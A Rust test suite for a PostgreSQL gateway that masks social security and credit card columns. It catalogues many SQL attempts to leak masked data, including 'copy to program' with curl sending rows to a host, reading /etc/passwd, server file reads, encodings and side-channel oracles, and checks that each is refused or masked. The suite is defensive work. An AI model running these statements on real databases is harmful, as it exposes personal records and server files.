//! P3: attempts to learn a masked column, each refused with its reason or traced to the output
//! column that the gateway then masks; and ordinary statements, which pass.
//!
//! Masked here are `ssn` and `credit_card`, wherever they are. Families are those of the catalogue
//! of ways data leaves a PostgreSQL server.

#![expect(clippy::panic, clippy::unwrap_used, reason = "a test that cannot go on must say so")]

use std::collections::HashSet;

use sql::{
    ColumnId, Options, Predicates, REASONS, SearchPath, Statements, Untraceable, analyse, exposure,
    masked_columns, sample,
};

/// What a principal with masks meets.
enum Meets {
    /// A refusal with this reason.
    Refused(&'static str),
    /// These output columns masked, by position from 1.
    Masked(&'static [usize]),
}
use Meets::{Masked, Refused};

fn masked() -> HashSet<ColumnId> {
    masked_columns(&sample(), |_, _, column| matches!(column, "ssn" | "credit_card"))
}

fn parsed(text: &str) -> Statements {
    let path = SearchPath::of(&["public"]);
    let options = Options { standard_conforming_strings: true, search_path: &path, role: "app" };
    analyse(text, &options, &sample()).unwrap_or_else(|error| panic!("{text}: {error:?}"))
}

fn judged(text: &str, allows: Predicates) -> Result<(), Untraceable> {
    let masks = masked();
    for statement in &parsed(text).list {
        exposure(statement, &|id| masks.contains(&id), &|_| allows)?;
    }
    Ok(())
}

/// The output columns of the last statement that the gateway would mask.
fn masked_outputs(text: &str) -> Vec<usize> {
    let masks = masked();
    let found = parsed(text);
    let statement = found.list.last().unwrap();
    let columns = statement.outputs.columns.iter().flatten().chain(&statement.outputs.every);
    columns
        .enumerate()
        .filter(|(_, column)| column.deps.iter().any(|id| masks.contains(id)))
        .map(|(place, _)| place + 1)
        .collect()
}

const ATTEMPTS: &[(&str, Meets)] = &[
    // S01 COPY
    ("copy customers to stdout", Masked(&[4, 5])),
    ("copy customers (ssn) to stdout csv", Masked(&[1])),
    ("copy (select name, ssn from customers) to stdout (format binary)", Masked(&[2])),
    // S02, S03 programs and files of the server
    ("copy customers to program 'curl -d @- x'", Refused("server_file")),
    ("copy customers to '/tmp/x'", Refused("server_file")),
    ("copy notes from program 'cat /etc/passwd'", Refused("server_file")),
    ("select pg_read_file('base/1/1')", Refused("server_file")),
    ("select * from pg_ls_dir('.')", Refused("server_file")),
    ("select lo_get(1)", Refused("large_object")),
    ("select lo_from_bytea(0, ssn::bytea) from customers", Refused("large_object")),
    ("select data from pg_largeobject", Refused("large_object")),
    // S04, S05 other servers, code
    (
        "select * from dblink('x', 'select ssn from customers') as t(s text)",
        Refused("unknown_object"),
    ),
    ("select pg_logical_slot_get_changes('s', null, null)", Refused("replication")),
    ("create extension dblink", Refused("installs_code")),
    ("create function f() returns text language plpgsql as 'begin end'", Refused("installs_code")),
    ("create server s foreign data wrapper postgres_fdw", Refused("installs_code")),
    ("create publication p for table customers", Refused("installs_code")),
    // S06 bulk reads
    ("table customers", Masked(&[4, 5])),
    ("select * from customers order by id limit 10 offset 20", Masked(&[4, 5])),
    // S07 set operations
    ("select name from customers union all select ssn from customers", Masked(&[1])),
    ("select name from customers union select ssn from customers", Refused("predicate")),
    ("select ssn from customers intersect select '123'", Refused("predicate")),
    ("select '123' except select ssn from customers", Refused("predicate")),
    (
        "with x as (select body b from notes union all select ssn from customers) select b from x",
        Masked(&[1]),
    ),
    // S08 aliases
    ("select ssn as name from customers", Masked(&[1])),
    ("select x.a from (select ssn from customers) as x(a)", Masked(&[1])),
    ("select d from customers as c(a, b, x, d)", Masked(&[1])),
    ("select c from customers c", Masked(&[1])),
    ("select (c).* from customers c", Masked(&[4, 5])),
    ("select (c).ssn from customers c", Masked(&[1])),
    ("select ssn(c) from customers c", Masked(&[1])),
    ("select c.*::text from customers c", Masked(&[1])),
    ("select c::text from customers c", Masked(&[1])),
    ("select (select x from (select c as x) q) from customers c", Masked(&[1])),
    ("select ssn from customers join vault using (ssn)", Refused("predicate")),
    ("select * from customers natural join vault", Refused("predicate")),
    ("select j.x from (customers c join notes n on n.id = c.id) as j(a, b, d, x)", Masked(&[1])),
    // S09 copies and definitions
    ("select code from people", Masked(&[1])),
    ("select tail from tails", Masked(&[1])),
    ("create table t as select ssn from customers", Refused("moved")),
    ("create temp table t as select * from customers", Refused("moved")),
    ("select ssn into t from customers", Refused("moved")),
    ("create view v as select ssn from customers", Refused("moved")),
    ("create materialized view v as select upper(ssn) from customers", Refused("expression")),
    (
        "create or replace view people as select 1 as id, 'x' as who, 'y' as code",
        Refused("redefined"),
    ),
    ("alter table customers rename column ssn to x", Refused("redefined")),
    ("alter table customers rename to x", Refused("redefined")),
    ("alter table customers set schema app", Refused("redefined")),
    ("alter schema public rename to x", Refused("redefined")),
    ("alter table customers alter ssn type int using ssn::int", Refused("redefined")),
    ("alter table events detach partition events_1", Refused("redefined")),
    ("alter table customers add x text generated always as (ssn) stored", Refused("redefined")),
    ("create table g (s text references customers (ssn))", Refused("redefined")),
    ("create unique index on customers ((1 / (ssn = 'x')::int))", Refused("predicate")),
    ("create index on customers (ssn)", Refused("redefined")),
    (
        "create rule r as on select to notes do instead select ssn from customers",
        Refused("installs_code"),
    ),
    ("select ssn from events_1", Masked(&[1])),
    ("select ssn_tail from contacts", Masked(&[1])),
    ("select * from temporary_copy", Refused("unknown_object")),
    // S10 WITH, LATERAL, writes that answer
    ("with c as (select ssn s from customers) select s from c", Masked(&[1])),
    (
        "with recursive t(n, s) as (select 1, ''::text union all select n + 1, c.ssn from t, customers c) select s from t",
        Masked(&[1]),
    ),
    (
        "with recursive t(n, s) as (select 1, '' union all select n + 1, s || substr(c.ssn, n, 1) from t, customers c where n < 9) select s from t",
        Refused("expression"),
    ),
    (
        "with u as (update customers set name = name where id = 1 returning ssn) select ssn from u",
        Masked(&[1]),
    ),
    (
        "select l.s from notes n, lateral (select ssn s from customers c where c.id = n.id) l",
        Masked(&[1]),
    ),
    ("insert into notes (body) select ssn from customers", Refused("moved")),
    (
        "insert into notes (body) values ((select ssn from customers where id = 1))",
        Refused("moved"),
    ),
    (
        "insert into notes (id, body) values (1, 'x') on conflict (id) do update set body = (select ssn from customers limit 1)",
        Refused("moved"),
    ),
    ("update customers set name = ssn", Refused("moved")),
    (
        "update notes set (id, body) = (select id, ssn from customers where id = 1)",
        Refused("moved"),
    ),
    ("update notes n set body = c.ssn from customers c where c.id = n.id", Refused("moved")),
    ("update customers set age = 1 where id = 1 returning ssn, old.credit_card", Masked(&[1, 2])),
    ("delete from customers where id = 1 returning *", Masked(&[4, 5])),
    (
        "merge into notes n using customers c on n.id = c.id when matched then update set body = c.ssn",
        Refused("moved"),
    ),
    (
        "merge into notes n using customers c on n.id = c.id when not matched then insert values (c.id, c.ssn)",
        Refused("moved"),
    ),
    (
        "merge into customers c using notes n on c.id = n.id when matched and c.ssn like '1%' then delete",
        Refused("predicate"),
    ),
    // S11 encodings
    ("select encode(ssn::bytea, 'base64') from customers", Refused("expression")),
    ("select md5(ssn), sha256(ssn::bytea) from customers", Refused("expression")),
    ("select reverse(ssn) from customers", Refused("expression")),
    ("select translate(ssn, '0123', 'abcd') from customers", Refused("expression")),
    ("select substring(ssn from 1 for 3), left(ssn, 4) from customers", Refused("expression")),
    ("select overlay(ssn placing 'x' from 1) from customers", Refused("expression")),
    ("select ssn || '' from customers", Masked(&[1])),
    ("select concat('x', ssn), concat_ws('-', name, credit_card) from customers", Masked(&[1, 2])),
    ("select ascii(ssn), chr(ascii(ssn)) from customers", Refused("expression")),
    ("select format('%s', ssn), quote_literal(ssn) from customers", Refused("expression")),
    ("select ssn::json from customers", Refused("expression")),
    ("select ssn collate \"C\" from customers", Masked(&[1])),
    // S12 one cell
    ("select json_agg(c) from customers c", Masked(&[1])),
    ("select row_to_json(c) from customers c", Masked(&[1])),
    ("select to_jsonb(c) -> 'ssn' from customers c", Refused("expression")),
    ("select jsonb_build_object('x', ssn) from customers", Masked(&[1])),
    ("select json_object('x': ssn) from customers", Masked(&[1])),
    ("select json_arrayagg(ssn order by id) from customers", Masked(&[1])),
    ("select string_agg(ssn, ',' order by id) from customers", Masked(&[1])),
    ("select string_agg(name, ',' order by ssn) from customers", Refused("predicate")),
    ("select array_agg(ssn) from customers", Masked(&[1])),
    ("select array(select ssn from customers)", Masked(&[1])),
    ("select min(ssn), max(credit_card), any_value(ssn) from customers", Masked(&[1, 2, 3])),
    ("select e.value from customers c, jsonb_each(to_jsonb(c)) e", Refused("from_function")),
    ("select * from unnest((select array_agg(ssn) from customers))", Refused("from_function")),
    ("select xmlagg(xmlelement(name x, ssn)) from customers", Refused("expression")),
    ("select table_to_xml('customers', true, true, '')", Refused("dynamic_query")),
    ("select database_to_xml(true, true, '')", Refused("dynamic_query")),
    (
        "select x.a from json_table((select to_jsonb(c) from customers c limit 1), '$' columns (a text path '$.ssn')) x",
        Refused("from_function"),
    ),
    // S13 text that runs
    (
        "do $$ begin raise notice '%', (select ssn from customers limit 1); end $$",
        Refused("dynamic_query"),
    ),
    ("select query_to_xml('select ssn from customers', true, true, '')", Refused("dynamic_query")),
    ("select * from ts_stat('select to_tsvector(ssn) from customers')", Refused("dynamic_query")),
    ("select plain(name) from customers", Refused("opaque_function")),
    ("select 'x' === 'y'", Refused("opaque_function")),
    ("call plain('x')", Refused("opaque_function")),
    ("select ssn_of('1')", Masked(&[1])),
    ("select number from everyone()", Masked(&[1])),
    ("select greet(ssn) from customers", Refused("expression")),
    ("select x from opaque_people", Refused("opaque_view")),
    ("create table t as execute p", Refused("unknown_object")),
    // S14 cursors
    ("declare c cursor for select ssn from customers", Masked(&[1])),
    ("prepare p as select ssn from customers", Masked(&[1])),
    // S15 text
    ("select /* /* x */ */ \"ssn\" from -- x\n customers", Masked(&[1])),
    ("select U&\"\\0073sn\" from customers", Masked(&[1])),
    ("select 1; select name, ssn from customers", Masked(&[2])),
    // S16 errors
    ("select cast(ssn as int) from customers", Refused("expression")),
    ("select ('x' || ssn)::int from customers", Refused("expression")),
    ("select 1 / (case when ssn = '1' then 0 else 1 end) from customers", Refused("expression")),
    ("select nullif(ssn, '1') is null from customers", Refused("expression")),
    ("select case when id = 1 then ssn end from customers", Refused("expression")),
    ("select greatest(ssn, 'x') from customers", Refused("expression")),
    // S17 yes and no
    ("select id from customers where ssn like '1%'", Refused("predicate")),
    ("select id from customers where ssn > '5'", Refused("predicate")),
    ("select id from customers where ssn between '1' and '2'", Refused("predicate")),
    ("select id from customers where ssn <> '1'", Refused("predicate")),
    ("select id from customers where substr(ssn, 1, 1) = '1'", Refused("predicate")),
    (
        "select id from customers where (case when ssn = '1' then true else false end)",
        Refused("predicate"),
    ),
    ("select id from customers order by ssn", Refused("predicate")),
    ("select id, ssn from customers order by 2", Refused("predicate")),
    ("select id, ssn s from customers order by s", Refused("predicate")),
    ("select count(*) from customers group by ssn", Refused("predicate")),
    ("select count(*) from customers having max(ssn) > '5'", Refused("predicate")),
    ("select distinct ssn from customers", Refused("predicate")),
    ("select count(distinct ssn) from customers", Refused("predicate")),
    ("select id from customers c order by c", Refused("predicate")),
    ("select row_number() over (order by ssn) from customers", Refused("predicate")),
    ("select rank() over w from customers window w as (partition by ssn)", Refused("predicate")),
    (
        "select id from notes limit (select ascii(ssn) from customers limit 1)",
        Refused("expression"),
    ),
    ("select count(*) filter (where ssn like '1%') from customers", Refused("predicate")),
    ("select from customers where ssn like '1%'", Refused("predicate")),
    ("select exists (select from customers where ssn like '1%')", Refused("predicate")),
    (
        "update notes set body = 'x' where exists (select from customers where ssn > '5')",
        Refused("predicate"),
    ),
    ("select ssn = '1' from customers", Refused("expression")),
    (
        "select g from generate_series(1, 999) g join customers c on c.ssn = g::text",
        Refused("predicate"),
    ),
    (
        "select v.x from customers c join (values ('1'), ('2')) v(x) on v.x = c.ssn",
        Refused("predicate"),
    ),
    ("select n.body from notes n join customers c on c.ssn = n.body", Refused("predicate")),
    (
        "select n.body from notes n where n.body in (select ssn from customers)",
        Refused("predicate"),
    ),
    (
        "select id from customers where ssn in (select g::text from generate_series(1, 9) g)",
        Refused("predicate"),
    ),
    (
        "select id from customers where ssn = any (array(select g::text from generate_series(1, 9) g))",
        Refused("predicate"),
    ),
    ("select 1 from customers where tail(ssn) = '1'", Refused("unknown_object")),
    ("select * from tails where tail = '1234'", Refused("predicate")),
    ("select bool_or(ssn = '1') from customers", Refused("expression")),
    (
        "select percentile_disc(0.5) within group (order by ssn) from customers",
        Refused("predicate"),
    ),
    // S18 delays
    ("select pg_sleep(length(ssn)) from customers", Refused("expression")),
    (
        "select id from customers where ssn = '1' and pg_sleep(age::int) is null and ssn > '2'",
        Refused("predicate"),
    ),
    // S19 statistics and plans
    ("select most_common_vals from pg_stats", Refused("statistics")),
    ("select * from pg_catalog.pg_statistic", Refused("statistics")),
    ("explain select id from customers where ssn > '5'", Refused("predicate")),
    ("explain (verbose) select ssn_of('1')", Masked(&[1])),
    ("select * from pg_toast.pg_toast_20001", Refused("raw_storage")),
    // S20 ways around the reply
    ("select set_config('a.b', (select ssn from customers limit 1), false)", Refused("expression")),
    ("select pg_notify('c', ssn) from customers", Refused("expression")),
    ("select setval('s', ssn::bigint) from customers", Refused("expression")),
    // S21 write-back
    (
        "update notes set body = (select string_agg(ssn, ',') from customers) where id = 1",
        Refused("moved"),
    ),
    // S23 oracles
    ("select ctid from customers where ssn > '1'", Refused("predicate")),
    (
        "select * from customers tablesample bernoulli ((select age from customers where ssn > '1' limit 1))",
        Refused("predicate"),
    ),
];

#[test]
fn p3_attempts_are_refused_or_traced() {
    assert!(ATTEMPTS.len() >= 60);
    for (text, meets) in ATTEMPTS {
        let verdict = judged(text, Predicates::Equality);
        match meets {
            Refused(reason) => {
                let refusal = verdict.expect_err(text);
                assert_eq!(refusal.reason, *reason, "{text}: {}", refusal.message);
                assert!(REASONS.iter().any(|(word, _)| *word == refusal.reason), "{text}");
                assert!(!refusal.message.is_empty());
            }
            Masked(columns) => {
                assert_eq!(verdict, Ok(()), "{text}");
                assert_eq!(masked_outputs(text), *columns, "{text}");
            }
        }
    }
}

const ORDINARY: &[&str] = &[
    "select 1",
    "select version(), current_database(), now()",
    "select id, name from customers",
    "select id, upper(name), age + 1 from customers where age > 30 order by name desc limit 10",
    "select count(*) from customers",
    "select count(ssn), count(*) - count(credit_card) from customers",
    "select ssn is null, credit_card is not null from customers",
    "select id from customers where ssn is not null",
    "select id from customers where coalesce(ssn, credit_card) is null",
    "select c.name, sum(o.total) from customers c join orders o on o.customer_id = c.id group by c.name having sum(o.total) > 100",
    "select * from orders where placed_at > now() - interval '1 day'",
    "select date_trunc('day', placed_at) d, count(*) from orders group by 1 order by 1",
    "select o.*, row_number() over (partition by customer_id order by placed_at desc) from orders o",
    "with recent as (select * from orders where total > 5) select avg(total) from recent",
    "with recursive t(n) as (values (1) union all select n + 1 from t where n < 100) select sum(n) from t",
    "select n.body from notes n left join orders o using (id) where o.id is null",
    "select distinct name from customers",
    "select name from customers union select body from notes",
    "select case when age > 18 then 'adult' else 'child' end, count(*) from customers group by 1",
    "select json_build_object('id', id, 'name', name) from customers",
    "select jsonb_agg(to_jsonb(n) - 'id') from notes n",
    "select e.key, e.value from notes n, jsonb_each_text(to_jsonb(n)) e",
    "select x.* from (values (1, 'a'), (2, 'b')) x(id, label) where label like 'a%'",
    "select * from generate_series(1, 10) g(n) where n % 2 = 0",
    "select unnest(string_to_array(body, ' ')) from notes",
    "select regexp_matches(body, '[0-9]+', 'g') from notes",
    "select to_char(placed_at, 'YYYY-MM'), round(total, 2) from orders",
    "select exists (select 1 from orders where customer_id = 1)",
    "select id from customers c where exists (select 1 from orders o where o.customer_id = c.id)",
    "select id from customers where id in (select customer_id from orders) and name ilike '%x%'",
    "select id from customers where id = any ($1)",
    "select (select max(total) from orders o where o.customer_id = c.id) from customers c",
    "select l.total from customers c cross join lateral (select total from orders o where o.customer_id = c.id limit 1) l",
    "select id from tails",
    "select who from people where who = 'x' order by id",
    "select id from opaque_people",
    "select id, sum from totals where sum > 3",
    "select greet('x')",
    "select soundslike(name, 'x') from customers",
    "insert into notes values (1, 'x')",
    "insert into notes (id, body) values ($1, $2) returning id",
    "insert into notes (id, body) select id, name from customers",
    "insert into notes (id, body) values (1, 'x') on conflict (id) do update set body = excluded.body",
    "insert into customers (id, name, ssn) values (1, 'x', '123')",
    "insert into customers (id, ssn) values (1, 'x') on conflict (id) do update set ssn = excluded.ssn",
    "update notes set body = 'x' where id = 3",
    "update customers set ssn = null where id = 3",
    "update customers set ssn = ssn where id = 3",
    "update customers set name = upper(name), age = age + 1 where id = $1",
    "update orders o set total = o.total * 2 from customers c where c.id = o.customer_id and c.name = 'x'",
    "delete from notes where id in (1, 2)",
    "delete from orders o using customers c where c.id = o.customer_id and c.age > 100",
    "merge into notes n using orders o on n.id = o.id when matched then delete",
    "truncate notes",
    "copy notes to stdout",
    "copy notes (id, body) from stdin csv",
    "copy (select id, name from customers) to stdout csv header",
    "begin",
    "commit",
    "savepoint a",
    "set search_path = public",
    "set local statement_timeout = '5s'",
    "show server_version",
    "reset all",
    "discard all",
    "select set_config('application_name', 'x', false)",
    "listen x",
    "notify x, 'y'",
    "declare c cursor for select id from customers",
    "fetch 10 from c",
    "close c",
    "prepare p as select id from customers where id = $1",
    "execute p(1)",
    "deallocate p",
    "explain select id, name from customers",
    "explain (analyze, buffers) select * from orders",
    "create table t (id int primary key, body text default 'x' check (id > 0))",
    "create temp table t as select id, name from customers",
    "create table child (id int references orders (id))",
    "create index on notes (id)",
    "create view v as select id, name from customers",
    "alter table notes add column extra text",
    "alter table notes rename column body to text",
    "drop table if exists t",
    "vacuum analyze orders",
    "comment on table notes is 'x'",
    "lock table notes in share mode",
    "select relname from pg_catalog.pg_class where relname = 'customers'",
    "select n.nspname, c.relname from pg_catalog.pg_class c left join pg_catalog.pg_namespace n on n.oid = c.relnamespace where c.relkind in ('r', 'p', '') and pg_catalog.pg_table_is_visible(c.oid) order by 1, 2",
    "select a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), (select pg_catalog.pg_get_expr(d.adbin, d.adrelid, true) from pg_catalog.pg_attrdef d where d.adrelid = a.attrelid and d.adnum = a.attnum and a.atthasdef) from pg_catalog.pg_attribute a where a.attrelid = '20001' and a.attnum > 0 and not a.attisdropped order by a.attnum",
    "select table_name, column_name, data_type from information_schema.columns where table_schema = 'public' order by ordinal_position",
    "select t.oid, t.typname from pg_type t join pg_namespace n on n.oid = t.typnamespace where n.nspname <> 'pg_catalog'",
    "select current_schemas(true), pg_backend_pid(), pg_is_in_recovery()",
    "select rolname from pg_roles order by 1",
    "select setting from pg_settings where name = 'server_version_num'",
];

#[test]
fn ordinary_statements_pass_a_principal_with_masks() {
    assert!(ORDINARY.len() >= 60);
    for text in ORDINARY {
        assert_eq!(judged(text, Predicates::Equality), Ok(()), "{text}");
        assert_eq!(masked_outputs(text), Vec::<usize>::new(), "{text}");
    }
}

#[test]
fn an_error_about_what_reads_nothing_masked_is_clear() {
    let clear = |text: &str| {
        let catalog = sql::sample();
        let path = SearchPath::Known(vec!["public".into()]);
        let options =
            Options { standard_conforming_strings: true, search_path: &path, role: "gateway" };
        let statements = analyse(text, &options, &catalog).unwrap();
        let masked = sql::masked_columns(&catalog, |_, _, column| column == "ssn");
        statements.list.iter().all(|one| sql::is_clear(one, &catalog, &|id| masked.contains(&id)))
    };
    for text in [
        "select 'abc'::int",
        "select total / 0 from orders",
        "select n.body::int from notes n join orders o on o.id = n.id where o.total::text like $1",
        "with a as (select id from totals) select 1 / id from a",
        "select relname::int from pg_class",
    ] {
        // `totals` joins customers, whose ssn is masked.
        assert_eq!(clear(text), !text.contains("totals"), "{text}");
    }
    for text in [
        "select name::int from customers",
        "select tail::int from tails",
        "select 1 / id from contacts",
        "select id::date from people",
        "select ssn_of('1')::int",
        "select plain('x')",
        "select * from no_such_table",
        "insert into notes values ('x'::int, 'y')",
        "select body::int from notes for update",
        "delete from notes where body::int = 1",
        "copy notes to stdout",
        "execute p",
        "commit",
    ] {
        assert!(!clear(text), "{text}");
    }
}

#[test]
fn r5_equality_is_answered_as_far_as_the_mask_allows() {
    let asked = [
        "select id from customers where ssn = '1'",
        "select id from customers where ssn = $1",
        "select id from customers where ssn in ('1', $2)",
        "select id from customers where not ssn = '1' or credit_card is not distinct from 'x'",
        "select id from customers where ssn = any ($1)",
        "select id from customers where (id, ssn) in ((1, '1'), (2, '2'))",
        "select id from people where code = lower('X')",
        "delete from customers where ssn = '1'",
    ];
    for text in asked {
        assert_eq!(judged(text, Predicates::Equality), Ok(()), "{text}");
        assert_eq!(judged(text, Predicates::Allow), Ok(()), "{text}");
        assert_eq!(judged(text, Predicates::Refuse).unwrap_err().reason, "predicate", "{text}");
    }
    for text in [
        "select id from customers where ssn like '1%' order by ssn",
        "select ssn, count(*) from customers group by ssn",
        "select n.id from notes n join customers c on c.ssn = n.body",
        "select id from customers where upper(ssn) = 'X'",
        // No key ties the two: the other table may be somebody's own.
        "select c.id from customers c join vault v on v.ssn = c.ssn",
        "select id from customers join vault using (ssn)",
        "select id from customers where ssn in (select ssn from vault)",
    ] {
        assert_eq!(judged(text, Predicates::Allow), Ok(()), "{text}");
        assert_eq!(judged(text, Predicates::Equality).unwrap_err().reason, "predicate", "{text}");
    }
}

/// What has another value tomorrow, or as many as it likes, is none that can be counted by its text.
#[test]
fn r5_only_what_is_written_out_can_be_counted() {
    for text in [
        "select id from customers where ssn = 'x'::text",
        "select id from customers where ssn = $1::varchar::text",
        "select id from customers where ssn = any ('{a,b}'::text[])",
        "select id from customers where ssn = any (array['a', $1]::text[])",
        "select id from customers where ssn = lower($1)",
    ] {
        assert_eq!(judged(text, Predicates::Equality), Ok(()), "{text}");
    }
    for text in [
        "select id from customers where ssn = any (array['{a,b}'::text[] || '{c}'::text[]])",
        "select id from customers where ssn = any (array[lower($1)])",
        "select id from customers where ssn = any ('100 101'::int2vector)",
        "select id from customers where ssn = 16400::regclass::text",
        "select id from customers where ssn = (16400::regclass::text::json #>> '{}')",
        "select id from customers where ssn = lower(16400::regclass::text)",
        "select id from customers where ssn = '2026-01-01'::timestamptz::text",
        "select id from customers where ssn = 1::oid",
        "select id from customers where ssn = 1::float8",
        "select id from customers where ssn = current_setting('my.guess')",
    ] {
        assert_eq!(judged(text, Predicates::Equality).unwrap_err().reason, "predicate", "{text}");
    }
}

#[test]
fn r5_writes_to_a_unique_masked_column_are_guesses() {
    for text in [
        "insert into customers (ssn) values ('1')",
        "update customers set ssn = '1' where id = 1",
        "insert into customers (ssn) values (upper('a'))",
        "insert into customers (ssn) values ($1) on conflict (ssn) do update set ssn = excluded.ssn",
    ] {
        let found = parsed(text);
        assert!(!found.list[0].guesses.is_empty(), "{text}");
        assert_eq!(judged(text, Predicates::Refuse).unwrap_err().reason, "predicate", "{text}");
        assert_eq!(judged(text, Predicates::Equality), Ok(()), "{text}");
    }
}

#[test]
fn r5_values_that_cannot_be_counted_are_refused() {
    for text in [
        "copy customers (ssn) from stdin",
        "insert into customers (ssn) select body from notes",
        "insert into customers (id, name, ssn) values (1, '1', '2') \
         on conflict (id) do update set ssn = excluded.name",
        "select c.id from customers c join (values ('1'), ('2')) v (x) on c.ssn = v.x",
        "select id from customers where ssn in (values ('1'), ('2'))",
        "with recursive g (x) as (select 1 union all select x + 1 from g where x < 1000000) \
         select c.id from customers c, g where c.ssn = g.x::text",
        "select c.id from customers c, generate_series(1, 1000000) g where c.ssn = g::text",
        "select c.id from customers c, unnest(string_to_array($1, ',')) g where c.ssn = g",
        "select id from customers where ssn = random()::text",
        "select id from customers where ssn = any (string_to_array($1, ','))",
        "select id from customers where ssn = (select body from notes limit 1)",
        "select a.id from customers a join contacts b on a.ssn = b.ssn",
        "select id from customers where not (ssn <> all (string_to_array($1, ',')))",
        "select id from customers where ssn = all (string_to_array($1, ','))",
        "select id from customers where ssn in (select unnest($1::text[]))",
        "select id from customers c where exists (select 1 from unnest($1::text[]) u where u = c.ssn)",
        "select id from customers where ssn = any (values ('a'), ('b'))",
        "select id from customers where (ssn, id) in (select u, 1 from unnest($1::text[]) u)",
        "merge into customers c using (values ('a'), ('b')) v (x) on c.ssn = v.x \
         when matched then do nothing",
        "update customers set name = 'x' from (values ('a'), ('b')) v (x) where ssn = v.x",
        "delete from customers using unnest($1::text[]) u where ssn = u",
        "insert into customers (id, ssn) select 1, u from unnest($1::text[]) u \
         on conflict do nothing returning id",
        "with v (x) as (values ('a'), ('b')) select id from customers join v on ssn = x",
        "select id from customers natural join (values ('a'), ('b')) v (ssn)",
        "select id from customers join (values ('a'), ('b')) v (ssn) using (ssn)",
        "select id from customers where ssn = (array['a', 'b'])[id]",
        "select id from customers where ssn = case when id > 1 then 'a' else 'b' end",
        "select id from customers where ssn = name",
        "select id from customers where ssn = to_char(clock_timestamp(), 'SS')",
    ] {
        assert_eq!(judged(text, Predicates::Equality).unwrap_err().reason, "predicate", "{text}");
    }
}

#[test]
fn r5_each_value_compared_is_listed() {
    let found = parsed("select 1 from customers where ssn in ('a', 'b') or ssn = $3");
    let operands: Vec<_> = found.list[0].guesses.iter().map(|guess| &guess.operand).collect();
    assert_eq!(format!("{operands:?}"), r#"[Constant("a"), Constant("b"), Parameter(3)]"#);
}

#[test]
fn masks_follow_views_partitions_and_generated_columns() {
    let catalog = sample();
    let masks = masked_columns(&catalog, |schema, table, column| {
        (schema, table, column) == ("public", "customers", "ssn")
            || (schema, table, column) == ("public", "events", "ssn")
            || (schema, table, column) == ("public", "contacts", "ssn")
    });
    let mut names: Vec<String> = masks
        .iter()
        .filter_map(|id| catalog.column(*id))
        .map(|(relation, column)| format!("{}.{}", relation.name, column.name))
        .collect();
    names.sort();
    let expected = [
        "contacts.ssn",
        "contacts.ssn_tail",
        "customers.ssn",
        "events.ssn",
        "events_1.ssn",
        "people.code",
        "tails.tail",
    ];
    assert_eq!(names, expected);
}

#[test]
fn p3_what_a_view_or_storage_computes_is_hidden_as_computed() {
    let catalog = sample();
    let named = |_: &str, table: &str, column: &str| {
        (matches!(table, "contacts" | "customers") && column == "ssn").then_some("hash")
    };
    let masks = sql::masked_kinds(&catalog, named, |_| "as computed");
    let kind = |relation: &str, column: &str| {
        let of = |(id, _): &(&sql::ColumnId, _)| {
            let found = catalog.column(**id);
            found.is_some_and(|(table, stored)| (&*table.name, &*stored.name) == (relation, column))
        };
        masks.iter().find(of).map(|(_, kind)| *kind)
    };
    assert_eq!(kind("contacts", "ssn"), Some("hash"));
    assert_eq!(kind("people", "code"), Some("hash"), "the view shows the column itself");
    assert_eq!(kind("tails", "tail"), Some("as computed"));
    assert_eq!(kind("contacts", "ssn_tail"), Some("as computed"));
}

#[test]
fn r1_nothing_is_refused_when_nothing_is_masked_and_everything_is_traced() {
    for (text, meets) in ATTEMPTS {
        let opaque = parsed(text).list.iter().any(|statement| !statement.opaque.is_empty());
        if matches!(meets, Masked(_)) || !opaque {
            for statement in &parsed(text).list {
                let verdict = exposure(statement, &|_| false, &|_| Predicates::Refuse);
                assert_eq!(verdict, Ok(()), "{text}");
            }
        }
    }
}

#[test]
fn p9_a_body_of_the_standard_form_names_what_an_empty_search_path_names() {
    let mut data = sql::CatalogData::from(sample());
    // As citext of PostgreSQL 18 has it: its body calls PostgreSQL's own, not itself.
    let body = "RETURN strpos(lower(($1)::text), lower(($2)::text))";
    let mut own = sql::Function::new(40_001, "strpos", "sql", Some(body)).taking(&["a", "b"]);
    own.volatility = 'i';
    data.functions.push(own);
    let catalog = sql::Catalog::new(data);
    let path = SearchPath::Known(vec!["public".into()]);
    let options = Options { standard_conforming_strings: true, search_path: &path, role: "app" };
    let found = analyse("select strpos('abc', 'c')", &options, &catalog).unwrap();
    assert_eq!(found.list[0].opaque, []);
}

#[test]
fn what_is_missing_is_said_by_the_servers_code() {
    for (text, code) in [
        ("SELECT 1 FROM gone", Some("42P01")),
        ("SELECT gone FROM customers", Some("42703")),
        ("SELECT gone(id) FROM customers", Some("42883")),
        ("CREATE TABLE t AS EXECUTE p", None),
    ] {
        let found = parsed(text);
        let refused = exposure(&found.list[0], &|_| true, &|_| Predicates::Refuse).err();
        let Some(refused) = refused else { panic!("{text} is refused") };
        assert_eq!((refused.reason, refused.sqlstate), ("unknown_object", code), "{text}");
    }
}
